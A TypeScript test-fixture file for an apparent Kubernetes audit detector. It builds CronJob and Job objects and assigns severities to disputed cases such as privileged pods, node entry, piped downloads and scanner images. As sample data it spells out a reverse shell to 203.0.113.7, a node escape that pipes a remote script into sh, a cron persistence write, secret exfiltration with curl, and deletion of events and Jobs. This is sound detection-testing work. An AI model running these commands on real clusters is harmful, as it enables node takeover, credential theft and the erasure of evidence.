import type { Severity } from '../../model/finding.ts';
import type { JsonObject } from '../../model/json.ts';

/** Who asked, and how it ended; a developer whose request was accepted when nothing is said. */
export interface Asked {
  readonly username?: string;
  readonly code?: number;
}

export interface Dispute {
  readonly case: string;
  readonly situation: string;
  readonly severity: Severity;
  readonly because: string;
  readonly object: JsonObject;
  readonly asked?: Asked;
  /** Objects that the same log shows before it. */
  readonly before?: readonly JsonObject[];
  /** User names that are configured as known. */
  readonly identities?: readonly string[];
}

const IMAGE = 'registry.example.com/platform/tools:1.4.2';

const workload = (spec: JsonObject, metadata: JsonObject = {}): JsonObject => ({
  apiVersion: 'batch/v1',
  kind: 'CronJob',
  metadata: { name: 'nightly', namespace: 'shop', ...metadata },
  spec: { schedule: '30 3 * * *', jobTemplate: { spec: { template: { spec: { restartPolicy: 'Never', ...spec } } } } },
});
const runs = (text: string, metadata: JsonObject = {}, more: JsonObject = {}): JsonObject =>
  workload({ containers: [{ name: 'main', image: IMAGE, command: ['sh', '-c', text], ...more }] }, metadata);
const onNode = (text: string, metadata: JsonObject = {}): JsonObject =>
  workload(
    {
      hostPID: true,
      volumes: [{ name: 'host', hostPath: { path: '/' } }],
      containers: [
        {
          name: 'main',
          image: IMAGE,
          command: ['sh', '-c', text],
          securityContext: { privileged: true },
          volumeMounts: [{ name: 'host', mountPath: '/host' }],
        },
      ],
    },
    metadata,
  );

const driver = (metadata: JsonObject): JsonObject =>
  workload(
    {
      volumes: [{ name: 'lib', hostPath: { path: '/var/lib/driver' } }],
      containers: [
        {
          name: 'driver',
          image: IMAGE,
          securityContext: { privileged: true },
          volumeMounts: [{ name: 'lib', mountPath: '/var/lib/driver' }],
        },
      ],
    },
    { namespace: 'kube-system', ...metadata },
  );
const HELM = {
  labels: { 'app.kubernetes.io/managed-by': 'Helm' },
  annotations: { 'meta.helm.sh/release-name': 'driver', 'meta.helm.sh/release-namespace': 'kube-system' },
};
const ARGO = { annotations: { 'argocd.argoproj.io/tracking-id': 'driver:batch/CronJob:kube-system/nightly' } };
const ARGO_CONTROLLER = 'system:serviceaccount:argocd:argocd-application-controller';

const BENCH = (command: readonly string[], readOnly: boolean): JsonObject =>
  workload({
    hostPID: true,
    volumes: [{ name: 'etc', hostPath: { path: '/etc/kubernetes' } }],
    containers: [
      {
        name: 'kube-bench',
        image: 'docker.io/aquasec/kube-bench:v0.8.0',
        command,
        volumeMounts: [{ name: 'etc', mountPath: '/etc/kubernetes', readOnly }],
      },
    ],
  });

const SECRET = {
  volumes: [{ name: 'key', secret: { secretName: 'signing-key' } }],
};
const withSecret = (text: string): JsonObject =>
  workload({
    ...SECRET,
    containers: [
      {
        name: 'main',
        image: IMAGE,
        command: ['sh', '-c', text],
        volumeMounts: [{ name: 'key', mountPath: '/keys', readOnly: true }],
      },
    ],
  });

const REPORT = runs('run-report --all', { name: 'report' });
const manual = (text: string): JsonObject => ({
  apiVersion: 'batch/v1',
  kind: 'Job',
  metadata: {
    name: 'report-now',
    namespace: 'shop',
    annotations: { 'cronjob.kubernetes.io/instantiate': 'manual' },
    ownerReferences: [
      { apiVersion: 'batch/v1', kind: 'CronJob', name: 'report', uid: '00000000-0000-4000-8000-000000000001' },
    ],
  },
  spec: {
    template: {
      spec: { restartPolicy: 'Never', containers: [{ name: 'main', image: IMAGE, command: ['sh', '-c', text] }] },
    },
  },
});

const SUM = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';
const SHELL = 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1';

/** Cases about which reasonable people differ, with what is decided and why. Each is a test, and a row of the documentation. */
export const DISPUTES: readonly Dispute[] = [
  {
    case: 'Privileged, with a host path, in kube-system, with the marks of Helm or GitOps',
    situation: 'written by a person',
    severity: 'medium',
    because: 'whoever sends the request writes the labels too',
    object: driver(HELM),
  },
  {
    case: 'Privileged, with a host path, in kube-system, with the marks of Helm or GitOps',
    situation: 'written by an account that is configured as known',
    severity: 'low',
    because: 'the API server authenticated the account, and somebody vouched for it',
    object: driver(HELM),
    asked: { username: 'platform@example.com' },
    identities: ['platform@example.com'],
  },
  {
    case: 'Privileged, with a host path, in kube-system, with the marks of Helm or GitOps',
    situation: 'written by the account of Argo CD, with its own mark',
    severity: 'low',
    because: 'account and mark bear each other out',
    object: driver(ARGO),
    asked: { username: ARGO_CONTROLLER },
  },
  {
    case: 'Privileged, with a host path, in kube-system, with the marks of Helm or GitOps',
    situation: 'written by the account of Argo CD, without its mark',
    severity: 'medium',
    because: 'what its token did is not what it is there for',
    object: driver({}),
    asked: { username: ARGO_CONTROLLER },
  },
  {
    case: 'Entry into the node',
    situation: 'that runs a named maintenance command',
    severity: 'medium',
    because: 'the power is used, and the log says for what',
    object: onNode('nsenter -t 1 -m -u -i -n -- systemctl restart containerd'),
  },
  {
    case: 'Entry into the node',
    situation: 'that sets a kernel parameter',
    severity: 'medium',
    because: 'the power is used, and the log says for what',
    object: onNode('chroot /host sysctl -w vm.max_map_count=262144'),
  },
  {
    case: 'Entry into the node',
    situation: 'that runs a shell',
    severity: 'critical',
    because: 'nobody can say what comes next',
    object: onNode('chroot /host bash'),
  },
  {
    case: 'Entry into the node',
    situation: 'that runs a download',
    severity: 'critical',
    because: 'what runs on the node is decided elsewhere',
    object: onNode('nsenter --target 1 --mount -- sh -c "curl -s http://203.0.113.7/x | sh"'),
  },
  {
    case: 'Entry into the node',
    situation: 'that writes to a place of persistence',
    severity: 'critical',
    because: 'it stays when the pod is gone',
    object: onNode('chroot /host sh -c "echo \'* * * * * root /opt/x\' > /etc/cron.d/x"'),
  },
  {
    case: '`kubectl create job --from`',
    situation: 'the template equals the CronJob that the log shows',
    severity: 'info',
    because: 'it runs what was judged before, a little earlier',
    object: manual('run-report --all'),
    before: [REPORT],
  },
  {
    case: '`kubectl create job --from`',
    situation: 'the CronJob was never seen',
    severity: 'low',
    because: 'the claim cannot be checked, and that is said',
    object: manual('run-report --all'),
  },
  {
    case: '`kubectl create job --from`',
    situation: 'the template differs from the CronJob',
    severity: 'high',
    because: 'it is judged as what it is, whatever it claims',
    object: manual(SHELL),
    before: [REPORT],
  },
  {
    case: 'A download into a shell',
    situation: 'in a namespace called dev',
    severity: 'high',
    because: 'the name of a namespace proves nothing',
    object: runs('curl -fsSL https://scripts.example.com/setup.sh | bash', { namespace: 'dev' }),
  },
  {
    case: 'A download into a shell',
    situation: 'by https, from a known installer, with a version',
    severity: 'medium',
    because: 'a known project answers for it, but nobody compared it',
    object: runs('curl -fsSL https://raw.githubusercontent.com/helm/helm/v3.15.4/scripts/get-helm-3 | bash'),
  },
  {
    case: 'A download into a shell',
    situation: 'from a known installer, without a version',
    severity: 'high',
    because: 'what runs today is not what ran yesterday',
    object: runs('curl -fsSL https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 | bash'),
  },
  {
    case: 'A download into a shell',
    situation: 'with a checksum of the manifest that is compared before',
    severity: 'low',
    because: 'the content is fixed: the manifest says what runs',
    object: runs(
      `curl -fsSLo /tmp/i https://scripts.example.com/setup.sh; echo "${SUM}  /tmp/i" | sha256sum -c - && sh /tmp/i`,
    ),
  },
  {
    case: 'kube-bench, Trivy and the like',
    situation: 'image and arguments match, mounts are read-only, nothing else runs',
    severity: 'low',
    because: 'the image and what it does are those of the scanner',
    object: BENCH(['kube-bench', 'run', '--targets', 'node'], true),
  },
  {
    case: 'kube-bench, Trivy and the like',
    situation: 'a writable mount',
    severity: 'medium',
    because: 'a scanner does not write; it is judged bare',
    object: BENCH(['kube-bench', 'run', '--targets', 'node'], false),
  },
  {
    case: 'kube-bench, Trivy and the like',
    situation: 'another program in its image',
    severity: 'medium',
    because: 'a name on an image says nothing of what runs; it is judged bare',
    object: BENCH(['sleep', '36000'], true),
  },
  {
    case: '`kubectl delete pods`',
    situation: 'in its own namespace, with a selector',
    severity: 'low',
    because: 'restarts and clean-ups do that',
    object: runs('kubectl delete pods -l app=web'),
  },
  {
    case: '`kubectl delete pods`',
    situation: 'everywhere, of pods that have ended',
    severity: 'low',
    because: 'nothing that runs is stopped',
    object: runs('kubectl delete pods -A --field-selector=status.phase=Failed'),
  },
  {
    case: '`kubectl delete pods`',
    situation: 'cluster-wide',
    severity: 'medium',
    because: 'any workload may be stopped so',
    object: runs('kubectl delete pods --all -A'),
  },
  {
    case: '`kubectl delete pods`',
    situation: 'in kube-system',
    severity: 'medium',
    because: 'the cluster stands on these pods',
    object: runs('kubectl -n kube-system delete pods -l k8s-app=kube-dns'),
  },
  {
    case: '`kubectl delete pods`',
    situation: 'events in their place',
    severity: 'high',
    because: 'an investigation stands on events',
    object: runs('kubectl delete events --all -n shop'),
  },
  {
    case: '`kubectl delete pods`',
    situation: 'every Job of the cluster in their place',
    severity: 'high',
    because: 'Jobs are what tells that something ran',
    object: runs('kubectl delete jobs --all -A'),
  },
  {
    case: '`base64 -d` of the own mounted secret',
    situation: 'stays in the pod',
    severity: 'info',
    because: 'that is how a key gets into a file',
    object: withSecret('base64 -d /keys/key.b64 > /tmp/key; sign --key /tmp/key'),
  },
  {
    case: '`base64 -d` of the own mounted secret',
    situation: 'into an interpreter',
    severity: 'high',
    because: 'a secret that is a program is hidden code',
    object: withSecret('base64 -d /keys/key.b64 | sh'),
  },
  {
    case: '`base64 -d` of the own mounted secret',
    situation: 'off the cluster',
    severity: 'high',
    because: 'the secret is no longer one',
    object: withSecret('base64 -d /keys/key.b64 | curl -s --data-binary @- https://collect.example.com/k'),
  },
  {
    case: 'An unknown registry and no command',
    situation: 'alone',
    severity: 'low',
    because: 'everybody has a registry',
    object: workload({ containers: [{ name: 'main', image: 'images.harbour-tools.io/a/b:1' }] }),
  },
  {
    case: 'An unknown registry and no command',
    situation: 'that goes to any node, whatever keeps others away',
    severity: 'medium',
    because: 'one more fact makes it worth a look',
    object: workload({
      containers: [{ name: 'main', image: 'images.harbour-tools.io/a/b:1' }],
      tolerations: [{ operator: 'Exists' }],
    }),
  },
  {
    case: 'A reverse shell',
    situation: 'accepted',
    severity: 'high',
    because: 'nothing benign does that',
    object: runs(SHELL),
  },
  {
    case: 'A reverse shell',
    situation: 'refused, of an authenticated user',
    severity: 'high',
    because: 'somebody who may sign in has tried it, and will try again',
    object: runs(SHELL),
    asked: { code: 403 },
  },
  {
    case: 'A reverse shell',
    situation: 'refused, of an anonymous user',
    severity: 'low',
    because: 'every open API server sees that all day',
    object: runs(SHELL),
    asked: { username: 'system:anonymous', code: 403 },
  },
];
